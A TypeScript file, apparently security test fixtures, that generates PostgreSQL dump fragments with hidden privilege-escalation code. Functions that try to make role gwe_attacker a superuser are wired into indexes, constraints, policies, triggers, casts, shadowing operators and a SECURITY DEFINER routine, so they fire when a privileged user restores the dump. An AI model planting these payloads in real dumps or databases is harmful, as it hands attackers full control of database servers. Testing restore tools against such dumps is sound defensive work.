// Dumps whose code waits for an administrator: it does nothing while the working login restores it, and tries to make
// somebody a superuser as soon as it is run with more rights.

/** Tries every way to more rights it can think of, and is silent about all that fails. Needs a role gwe_attacker. */
export const act = `CREATE FUNCTION public.act() RETURNS int VOLATILE LANGUAGE plpgsql AS $act$
BEGIN
  BEGIN EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'SET ROLE postgres'; EXECUTE 'ALTER ROLE gwe_attacker SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN 1;
END $act$;\n`

/** What calls itself IMMUTABLE may not change anything, but may ask somebody who may. */
const attack = (signature: string, returns: string, value: string, more = 'IMMUTABLE'): string =>
  `CREATE FUNCTION public.${signature} RETURNS ${returns} ${more} LANGUAGE plpgsql AS $attack$ BEGIN PERFORM public.act(); RETURN ${value}; END $attack$;\n`
export const evil = attack('evil(int)', 'int', '$1')
const rows = (table: string, columns = 'i'): string => `COPY public.${table} (${columns}) FROM stdin;\n1\n2\n3\n\\.\n`
const operator = (name: string, left: string, right: string, returns: string, value: string): string =>
  `${attack(`op_${Buffer.from(`${name}${left}${right}`).toString('hex')}(${left}, ${right})`, returns, value)}CREATE OPERATOR public.${name} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = public.op_${Buffer.from(`${name}${left}${right}`).toString('hex')});\n`

export const waitingCode: Readonly<Record<string, string>> = {
  'an index on a function': `${evil}CREATE TABLE public.t (i int);\n${rows('t')}CREATE INDEX ti ON public.t (public.evil(i));\n`,
  'an index on a constant, worked out by whoever plans a query': `${evil}CREATE TABLE public.t (i int);\n${rows('t')}CREATE INDEX ti ON public.t (i) WHERE public.evil(1) > 0;\nCREATE INDEX tj ON public.t ((i + public.evil(2)));\n`,
  'a check, a default, a generated column': `${evil}CREATE TABLE public.t (i int DEFAULT public.evil(1), CHECK (public.evil(1) > 0), CHECK (i + public.evil(2) > 0), g int GENERATED ALWAYS AS (public.evil(3)) STORED);\n${rows('t')}CREATE TABLE public.c () INHERITS (public.t);\n`,
  'statistics on an expression': `${evil}CREATE TABLE public.t (i int, j int);\n${rows('t')}CREATE STATISTICS public.s ON (public.evil(i)), (i + public.evil(1)) FROM public.t;\n`,
  'a partition key': `${evil}CREATE TABLE public.t (i int) PARTITION BY RANGE ((i + public.evil(0)));\nCREATE TABLE public.p PARTITION OF public.t FOR VALUES FROM (0) TO (100);\nCREATE TABLE public.d PARTITION OF public.t DEFAULT;\n${rows('p')}`,
  'a range type': `${attack('apart(float8, float8)', 'float8', '$1 - $2')}CREATE TYPE public.r AS RANGE (subtype = float8, subtype_diff = public.apart);\nCREATE TABLE public.t (i public.r);\nCOPY public.t (i) FROM stdin;\n[1,2)\n[2,3)\n[4,9)\n\\.\n`,
  'a domain': `${attack('good(int)', 'boolean', 'true')}CREATE DOMAIN public.d AS int CHECK (public.good(VALUE));\nCREATE TABLE public.t (i public.d);\n${rows('t')}CREATE INDEX ti ON public.t ((i::int + 1)) WHERE (1::public.d) > 0;\n`,
  'policies, rules, views, triggers': `${evil}${attack('fires()', 'trigger', 'NEW', '')}CREATE TABLE public.t (i int);\n${rows('t')}ALTER TABLE public.t ENABLE ROW LEVEL SECURITY;\nALTER TABLE public.t FORCE ROW LEVEL SECURITY;\nCREATE POLICY p ON public.t USING (public.evil(i) > 0);\nCREATE VIEW public.v AS SELECT public.evil(i) AS e FROM public.t;\nCREATE MATERIALIZED VIEW public.m AS SELECT public.evil(1) AS e;\nCREATE INDEX mi ON public.m (public.evil(e));\nCREATE TRIGGER g BEFORE INSERT OR UPDATE ON public.t FOR EACH ROW EXECUTE FUNCTION public.fires();\n`,
  'operators that stand in front of the system’s': [
    operator('=', 'oid', 'regclass', 'boolean', 'false'),
    operator('=', 'name', 'text', 'boolean', 'false'),
    operator('||', 'name', 'text', 'text', '$1::text'),
    operator('||', 'regtype', 'text', 'text', '$2'),
    operator('<>', 'name', 'text', 'boolean', 'true'),
    operator('~', 'name', 'text', 'boolean', 'true'),
    operator('=', '"char"', 'text', 'boolean', 'false'),
    operator('=', 'int2', 'int8', 'boolean', 'false'),
    attack('format(text, name)', 'text', '$2::text'),
    attack('unnest(text[])', 'SETOF text', 'NULL', '').replace('RETURN NULL;', 'RETURN NEXT $1[1]; RETURN;'),
    attack('to_regclass(unknown_text text)', 'regclass', 'NULL'),
    attack('count(text)', 'bigint', '0'),
    'CREATE TABLE public.t (i int PRIMARY KEY);\n',
    rows('t'),
  ].join(''),
  'casts of its own types to text': `${attack('say(public.mood)', 'text', "'x'").replace('CREATE', `CREATE TYPE public.mood AS ENUM ('a', 'b', '1', '2', '3');\nCREATE`)}CREATE CAST (public.mood AS text) WITH FUNCTION public.say(public.mood) AS IMPLICIT;\nCREATE TABLE public.t (i public.mood PRIMARY KEY);\n${attack('row(public.t)', 'text', "'x'")}CREATE CAST (public.t AS text) WITH FUNCTION public.row(public.t);\n${rows('t')}`,
  'a view in the place of a table': `${evil}CREATE TABLE public.t (i int);\n${rows('t')}ALTER TABLE public.t RENAME TO u;\nCREATE VIEW public.t AS SELECT i FROM public.u WHERE public.evil(i) > 0;\n`,
  'a function that passes for an extension’s': `${evil}CREATE TABLE public.t (i int);\n${rows('t')}DO $do$ BEGIN CREATE EXTENSION hstore WITH SCHEMA public; ALTER EXTENSION hstore ADD FUNCTION public.evil(int); END $do$;\nCREATE INDEX ti ON public.t (i) WHERE public.evil(1) > 0;\nCREATE INDEX tj ON public.t (public.evil(i));\n`,
  'a routine with the rights of its owner': `CREATE FUNCTION public.f(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE $1; END $$;\nCREATE TABLE public.t (i int);\n${rows('t')}`,
}

/** All of them in one database: each in a schema of its own, but for the operators, which must stand in public. */
export const allWaitingCode = (): string =>
  Object.entries(waitingCode)
    .map(([what, text], index) => {
      const whole = act + text
      return what.startsWith('operators')
        ? whole
        : `CREATE SCHEMA s${index};\n${whole.replaceAll('public.', `s${index}.`)}`
    })
    .join('')
